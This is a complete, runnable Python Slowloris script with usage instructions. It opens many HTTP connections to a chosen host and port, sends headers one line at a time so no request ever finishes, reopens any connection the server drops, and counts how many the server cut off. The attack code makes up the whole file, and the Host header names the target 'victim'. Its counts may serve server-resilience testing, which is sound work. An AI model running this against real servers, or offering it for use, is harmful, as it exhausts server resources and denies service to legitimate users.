"""Slowloris: holds CONNECTIONS connections that send a request line, then one header line every INTERVAL seconds,
never the end of the headers; a connection the server closes is opened again after INTERVAL seconds (as the
slowloris tool does). Runs for DURATION seconds and
prints how many connections the server cut off. Usage: slow-headers.py HOST PORT CONNECTIONS INTERVAL DURATION"""
import asyncio
import sys

host, port, count, interval, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(
    sys.argv[5])
cut = 0
open_now = 0


async def one(deadline):
    global cut, open_now
    loop = asyncio.get_running_loop()
    while loop.time() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        open_now += 1
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: victim\r\n")
            await writer.drain()
            while loop.time() < deadline:
                await asyncio.sleep(interval)
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()
                if reader.at_eof():
                    raise ConnectionResetError
        except (OSError, ConnectionResetError):
            cut += 1
        finally:
            open_now -= 1
            writer.close()
        await asyncio.sleep(interval)


async def main():
    deadline = asyncio.get_running_loop().time() + duration
    tasks = [asyncio.create_task(one(deadline)) for _ in range(count)]
    await asyncio.sleep(min(5, duration))
    print(f"{open_now} slow connections open after 5 s", flush=True)
    await asyncio.gather(*tasks)
    print(f"connections cut off by the server: {cut}", flush=True)


asyncio.run(main())
